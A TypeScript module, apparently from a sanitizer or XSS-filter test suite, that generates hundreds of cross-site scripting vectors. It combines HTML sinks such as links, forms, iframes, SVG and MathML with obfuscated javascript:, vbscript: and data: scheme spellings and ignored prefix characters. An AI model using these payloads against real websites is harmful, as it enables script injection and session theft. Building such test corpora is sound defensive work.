import type { Attempt } from './vector.ts'

type Place = (address: string) => string

/** Where an address may stand that is followed, framed, or submitted to. */
const PLACES: Record<string, Place> = {
  link: (address) => `<a href="${address}">x</a>`,
  'link in a new window': (address) => `<a target="_blank" href="${address}">x</a>`,
  map: (address) => `<map name=m><area shape=default href="${address}"></map>`,
  form: (address) => `<form action="${address}"><button>x</button></form>`,
  button: (address) =>
    `<form><button formaction="${address}">x</button><input type=submit formaction="${address}"></form>`,
  frame: (address) => `<iframe src="${address}"></iframe>`,
  object: (address) => `<object data="${address}"></object>`,
  embed: (address) => `<embed src="${address}">`,
  'link in SVG': (address) =>
    `<svg><a xlink:href="${address}"><text y=20>x</text></a><a href="${address}"><text>x</text></a></svg>`,
  'link in MathML': (address) =>
    `<math href="${address}"><mtext href="${address}" xlink:href="${address}">x</mtext></math>`,
  picture: (address) => `<img src="${address}"><input type=image src="${address}"><img data-remote-src="${address}">`,
  background: (address) =>
    `<table background="${address}"><tr><td background="${address}" style="background:url('${address}')">x</table>`,
}

const entities = (text: string, write: (code: number) => string) =>
  [...text].map((c) => write(c.codePointAt(0)!)).join('')

/** `javascript:` as browsers read it and filters may not. */
const SPELLINGS: ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\rscript\t:${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#0000106avascript:${js}`,
  (js) => `&#x6A;avascript&#x3a;${js}`,
  (js) => entities(`javascript:${js}`, (code) => `&#${code};`),
  (js) => `${entities(`javascript:${js}`, (code) => `&#x${code.toString(16)}`)};`,
  (js) => `java&Tab;script&colon;${js}`,
  (js) => `java&NewLine;script:${js}`,
  (js) => `&NewLine;&Tab; javascript:${js}`,
  (js) => `javascript&colon;${js.replace('(', '&lpar;').replace(')', '&rpar;')}`,
  (js) => `javascript://kunde.example/%0a${js}`,
  (js) => `javascript://https://kunde.example/%0d%0a${js}//`,
  (js) => `javascript:/*https://kunde.example/*/${js}`,
  (js) => `javascript:void(${js})`,
  (js) => `javascript:%72an${js.slice(3)}`,
  (js) => `vbscript:${js}`,
  (js) => `livescript:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `jar:javascript:${js}!/`,
  (js) => `https:javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;charset=utf-7,+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `data:text/html;base64,${Buffer.from(`<script>${js};</script>`).toString('base64')}`,
  (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  (js) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${js}</script>`,
  (js) => `data:,${js}`,
]

/** Everything that a browser drops before a scheme, and some that it does not. */
const BEFORE = [
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code)),
  '\u007f',
  '\u0080',
  '\u00a0',
  '\u00ad',
  '\u1680',
  '\u180e',
  '\u2000',
  '\u200b',
  '\u200e',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2060',
  '\u3000',
  '\ufeff',
  '&#1;',
  '&#x1f;',
  '&#32;',
  '&nbsp;',
  '&zwnj;',
]

export const schemeAttempts: Attempt[] = [
  ...Object.entries(PLACES).flatMap(([place, at]) =>
    SPELLINGS.map((spell) => ({ family: `scheme: ${place}`, html: (js: string) => at(spell(js)) })),
  ),
  ...['link', 'frame', 'link in SVG'].flatMap((place) =>
    BEFORE.flatMap((before) => [
      { family: `scheme: ${place}`, html: (js: string) => PLACES[place]!(`${before}javascript:${js}`) },
      { family: `scheme: ${place}`, html: (js: string) => PLACES[place]!(`java${before}script${before}:${js}`) },
    ]),
  ),
]
